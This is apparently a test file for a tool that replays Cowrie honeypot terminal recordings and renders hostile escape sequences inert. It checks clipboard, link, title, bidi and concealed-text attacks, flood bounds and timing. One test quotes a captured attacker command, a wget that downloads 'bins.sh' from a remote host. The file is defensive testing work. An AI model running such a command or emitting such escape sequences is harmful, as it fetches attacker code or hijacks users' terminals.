import assert from 'node:assert/strict'
import { globSync, readFileSync } from 'node:fs'
import { basename, join } from 'node:path'
import { describe, test } from 'node:test'
import { LIMITS } from '../../src/limits.ts'
import { boundedSize, makeReplay, type Replay } from '../../src/replay/replay.ts'
import { readTtyLog } from '../../src/replay/ttylog.ts'
import { PAYLOADS } from '../hostile/payloads.ts'
import { missingShared, SHARED } from '../support/cli.ts'
import { fc } from '../support/property.ts'
import { ATTACKS } from './attacks.ts'
import { START, ttyLog } from './ttylogs.ts'

const E = '\u001b'
const HOSTILE =
  /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\p{Noncharacter_Code_Point}]/u

/** Rows of the screen after the last frame, put together from the changes. */
function screenOf({ rows, frames }: Replay): string[] {
  const screen = Array.from({ length: rows }, () => '')
  for (const { lines } of frames)
    for (const { row, runs } of lines) screen[row] = runs.map(({ text }) => text).join('')
  return screen.map((line) => line.trimEnd())
}

function shown(...pieces: (string | Uint8Array)[]): string[] {
  return screenOf(makeReplay(ttyLog(pieces.map((data) => ({ data })))))
}

/** Nothing in a replay can be obeyed by what shows it. */
function assertInert(replay: Replay, name = ''): void {
  for (const { lines } of replay.frames)
    for (const { row, runs } of lines) {
      assert.ok(row >= 0 && row < replay.rows, name)
      for (const run of runs) {
        assert.doesNotMatch(run.text, HOSTILE, name)
        assert.deepEqual(
          Object.keys(run).filter(
            (key) => !['text', 'colour', 'background', 'style'].includes(key),
          ),
          [],
        )
        for (const number of [run.colour ?? 0, run.background ?? 0])
          assert.ok(Number.isInteger(number) && number >= 0 && number <= 16, name)
        assert.ok((run.style ?? 0) >= 0 && (run.style ?? 0) < 128, name)
      }
    }
  for (const line of replay.transcript) assert.doesNotMatch(line, HOSTILE, name)
  for (const { text } of replay.inputs) assert.doesNotMatch(text, HOSTILE, name)
}

describe('recordings of Cowrie', { skip: missingShared('corpus/tty') }, () => {
  const folder = join(SHARED, 'corpus/tty')
  const files = globSync('**/*', { cwd: folder, withFileTypes: true })
    .filter((one) => one.isFile())
    .map((one) => join(one.parentPath, one.name))

  test('are whole, and named by what was typed', () => {
    assert.ok(files.length >= 20)
    for (const path of files) {
      const replay = makeReplay(readFileSync(path))
      assert.equal(replay.end, 'closed', path)
      assert.equal(replay.isTruncated, false, path)
      assertInert(replay, path)
      if (/^[0-9a-f]{64}$/.test(basename(path))) assert.equal(replay.inputSha256, basename(path))
    }
  })

  test('have in their transcript what was written, line by line', () => {
    let plain = 0
    for (const path of files) {
      const bytes = readFileSync(path)
      let output = ''
      readTtyLog(bytes, true, ({ direction, data }) => {
        if (direction === 'output') output += Buffer.from(data).toString()
        return data.length
      })
      // Insert mode changes nothing at the end of a line.
      const text = output.replaceAll(`${E}[4h`, '').replaceAll(`${E}[4l`, '')
      if (/[^\x20-\x7e\n]/.test(text)) continue
      plain += 1
      const lines = text.split('\n').map((line) => line.trimEnd())
      while (lines.at(-1) === '') lines.pop()
      const transcript = makeReplay(bytes).transcript.map((line) => line.trimEnd())
      while (transcript.at(-1) === '') transcript.pop()
      assert.deepEqual(transcript, lines, path)
    }
    assert.ok(plain >= 10, `${plain}`)
  })

  test('have the command of an exec request beside the screen', () => {
    const path = files.find((one) => basename(one).startsWith('005572fe'))!
    const { inputs } = makeReplay(readFileSync(path))
    assert.deepEqual(
      inputs.map(({ kind, text }) => [kind, text]),
      [['command', 'wget http://user:pa:ss@192.88.99.10/bins.sh']],
    )
  })
})

describe('what attacks terminals', () => {
  for (const [name, data] of Object.entries(ATTACKS)) {
    test(`does nothing and hides nothing behind it: ${name}`, () => {
      const replay = makeReplay(ttyLog([{ data }]))
      assertInert(replay, name)
      // A string that is not ended swallows what follows, as on a terminal; within a bound.
      const rest = name.includes('never ended') ? 'x'.repeat(LIMITS.replayStringBytesMax) : ''
      const after = makeReplay(ttyLog([{ data }, `${E}\\${rest}\r\n${E}[0mstill here`]))
      assert.match(screenOf(after).join('\n'), /still here/, name)
    })
  }

  test('is counted by kind', () => {
    const { dropped } = makeReplay(
      ttyLog([
        ATTACKS['clipboard'] as string,
        ATTACKS['link'] as string,
        ATTACKS['title'] as string,
        ATTACKS['sixel'] as string,
        ATTACKS['status and attributes'] as string,
        ATTACKS['window moves'] as string,
        ATTACKS['mouse'] as string,
        ATTACKS['concealed'] as string,
        '\u0007',
      ]),
    )
    assert.deepEqual(dropped, {
      title: 2,
      clipboard: 1,
      link: 2,
      string: 2,
      query: 9,
      window: 3,
      mode: 5,
      bell: 1,
      concealed: 1,
      other: 0,
    })
  })

  test('leaves the text of a link, and boxes characters that cannot be shown', () => {
    assert.equal(shown(ATTACKS['link'] as string)[0], 'click')
    assert.equal(shown(ATTACKS['bidi'] as string)[0], 'aU+202Egnp.exeU+202C U+2066xU+2069 U+200F')
    assert.equal(shown(ATTACKS['C1 in two bytes'] as string)[0], 'U+9B31mU+9D0;tU+9CU+90qU+9C')
    assert.equal(shown(ATTACKS['C1 in one byte'] as Uint8Array)[0], '9B31m9D52;c;x9C90q9C')
    assert.equal(shown(ATTACKS['bytes that are not UTF-8'] as Uint8Array)[0], 'C0AFEDA080F5FFE282')
  })

  test('hides no text by its colour, by concealing it, or behind the alternate screen', () => {
    assert.equal(shown(ATTACKS['concealed'] as string)[0], 'hidden')
    assert.deepEqual(
      makeReplay(ttyLog([ATTACKS['concealed'] as string])).frames[0]?.lines[0]?.runs,
      [{ text: 'hidden' }],
    )
    assert.deepEqual(makeReplay(ttyLog([ATTACKS['alternate screen'] as string])).transcript, [
      '      hidden',
      'beforeafter',
    ])
  })

  test('is the same however it is cut into records', () => {
    for (const [name, data] of Object.entries(ATTACKS)) {
      const bytes = Buffer.from(data as string)
      const pieces = Array.from(bytes, (_, i) => bytes.subarray(i, i + 1))
      if (pieces.length > 6_000) continue
      assert.deepEqual(shown(...pieces), shown(bytes), name)
    }
  })

  test('of the red team is inert', () => {
    assert.ok(PAYLOADS.length > 100)
    for (const { id, text } of PAYLOADS) {
      assertInert(makeReplay(ttyLog([text, { data: text, direction: 1 }])), id)
    }
  })
})

test('any bytes give an inert replay', () => {
  const bits = fc.oneof(
    fc.uint8Array({ maxLength: 12 }),
    fc.constantFrom(...Object.values(ATTACKS)).map((one) => Buffer.from(one as string)),
    fc.string({ unit: 'binary' }).map((one) => Buffer.from(one)),
    fc
      .tuple(fc.nat(99_999), fc.nat(300), fc.integer({ min: 0x40, max: 0x7e }))
      .map(([a, b, final]) => Buffer.from(`${E}[${a};${b}${String.fromCharCode(final)}`)),
  )
  fc.assert(
    fc.property(
      fc.array(fc.record({ data: bits, direction: fc.constantFrom(1, 2, 2, 2, 3) }), {
        maxLength: 30,
      }),
      fc.constantFrom([80, 24], [20, 5], [200, 60]),
      (pieces, [columns, rows]) => {
        const replay = makeReplay(ttyLog(pieces), boundedSize(columns, rows))
        assertInert(replay)
        for (const { cursor } of replay.frames)
          if (cursor !== undefined) {
            assert.ok(cursor[0] >= 0 && cursor[0] < replay.columns)
            assert.ok(cursor[1] >= 0 && cursor[1] < replay.rows)
          }
      },
    ),
    { numRuns: 300 },
  )
})

describe('bounds', () => {
  const FLOODS: Readonly<Record<string, string>> = {
    text: 'hello ',
    lines: 'x\n',
    'line feeds': '\n',
    clears: `x${E}[2J`,
    'inserted characters': `${E}[9999999@`,
    repeats: `x${E}[999999999b`,
    scrolls: `x${E}[999S`,
    'reverse scrolls': `x${E}[T`,
    screens: `${E}[?1049hx${E}[?1049l`,
    resets: `x${E}c`,
    colours: `${E}[38;2;1;2;3;48;5;200mx`,
    marks: 'a\u0301\u0302',
    'shifts of marks': `a\u0301\r${E}[@`,
    'bad bytes': '\u202e',
    strings: `${E}]52;c;aaaa\u0007`,
  }

  for (const [name, text] of Object.entries(FLOODS)) {
    test(`a flood ends at the bounds: ${name}`, () => {
      const flood = Buffer.alloc(2 * LIMITS.replayFileBytesMax, text)
      const replay = makeReplay(ttyLog([{ data: flood }]), boundedSize(200, 60))
      assert.equal(replay.isTruncated, true)
      assert.match(replay.notes.join(' '), /the first \d+ of \d+ bytes are shown/)
      // A visible form has eight characters where the screen has one.
      assert.ok(JSON.stringify(replay).length < 10_000_000)
    })
  }

  test('frames are at most so many, and what they show at the end is what the screen shows', () => {
    const pieces = Array.from({ length: 5_000 }, (_, i) => ({
      data: `${i}\r\n`,
      at: START + i / 10,
    }))
    const replay = makeReplay(ttyLog(pieces))
    assert.ok(replay.frames.length <= LIMITS.replayFramesMax)
    assert.ok(replay.frames.length > LIMITS.replayFramesMax / 4)
    assert.deepEqual(screenOf(replay).slice(0, 2), ['4977', '4978'])
    assert.equal(replay.transcript.length, 5_000)
  })

  test('frames of the whole screen stay within their bytes', () => {
    const full = (seed: number): string =>
      `${E}[H${Array.from({ length: 1_900 }, (_, i) => `${E}[3${(i + seed) % 8}m${String.fromCharCode(97 + ((i * seed) % 26))}`).join('')}`
    const pieces = Array.from({ length: 300 }, (_, i) => ({ data: full(i), at: START + i / 10 }))
    const replay = makeReplay(ttyLog(pieces))
    assert.ok(JSON.stringify(replay.frames).length < 1.1 * LIMITS.replayFrameBytesMax)
    assert.ok(replay.frames.length > 10)
  })

  test('a size that a client claims is brought into bounds', () => {
    assert.deepEqual(boundedSize(4_294_967_295, 2_147_483_647), { columns: 200, rows: 60 })
    assert.deepEqual(boundedSize(1, 1), { columns: 20, rows: 5 })
    for (const bad of [0, -1, Number.NaN, '80', null, undefined])
      assert.deepEqual(boundedSize(bad, 24), { columns: 80, rows: 24 })
  })

  test('typed binaries are cut, and what is left out is counted', () => {
    const { inputs, notes } = makeReplay(
      ttyLog([
        { data: Buffer.alloc(300_000, 0x80), direction: 1 },
        { data: 'ls\n', direction: 1 },
      ]),
    )
    assert.equal(inputs[0]?.moreBytes, 300_000 - LIMITS.replayInputTextBytesMax)
    assert.equal(inputs[1]?.text, 'ls\\u{0A}')
    assert.match(notes.join(' '), /291808 bytes of what was typed are not shown/)
  })
})

describe('time', () => {
  test('long pauses are shortened, and the true time stands beside', () => {
    const { frames, durationMs, trueDurationMs, notes } = makeReplay(
      ttyLog([
        { data: 'a', at: START },
        { data: 'b', at: START + 3_600 },
      ]),
    )
    assert.deepEqual(
      frames.map(({ atMs, trueMs }) => [atMs, trueMs]),
      [
        [0, 0],
        [2_000, 3_600_000],
      ],
    )
    assert.deepEqual([durationMs, trueDurationMs], [2_000, 3_600_000])
    assert.match(notes.join(' '), /Pauses of more than 2 seconds are shortened/)
  })

  test('a clock that runs backwards stops, and that is said', () => {
    const { frames, notes } = makeReplay(
      ttyLog([
        { data: 'a', at: START },
        { data: 'b', at: START - 1_000 },
        { data: 'c', at: START - 999 },
      ]),
    )
    assert.deepEqual(
      frames.map(({ trueMs }) => trueMs),
      [0, 1_000],
    )
    assert.match(notes.join(' '), /clock ran backwards/)
  })

  test('changes within a fifteenth of a second are one frame', () => {
    const { frames } = makeReplay(ttyLog(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']))
    assert.ok(frames.length <= 2, `${frames.length}`)
  })

  test('a recording of another session in which the same was typed is told', () => {
    const bytes = ttyLog(['a'])
    const us = START * 1e6
    assert.deepEqual(makeReplay(bytes, undefined, true, [us - 5e6, us + 5e6]).notes, [])
    assert.match(
      makeReplay(bytes, undefined, true, [us + 60e6, us + 90e6]).notes[0]!,
      /recorded in another session/,
    )
  })
})

describe('the transcript', () => {
  test('keeps what scrolled away, what was cleared, and joins wrapped lines', () => {
    const long = 'abcdefghij'.repeat(20)
    const { transcript } = makeReplay(
      ttyLog([`first\n${E}[2J${E}[H${long}\n`, ...Array.from({ length: 30 }, (_, i) => `${i}\n`)]),
    )
    assert.deepEqual(transcript.slice(0, 4), ['first', long, '0', '1'])
    assert.equal(transcript.at(-1), '29')
  })

  test('tells a typed escape from a made one', () => {
    const { transcript } = makeReplay(ttyLog(['\\u{202E}\u202e']))
    assert.deepEqual(transcript, ['\\\\u{202E}\\u{202E}'])
  })
})
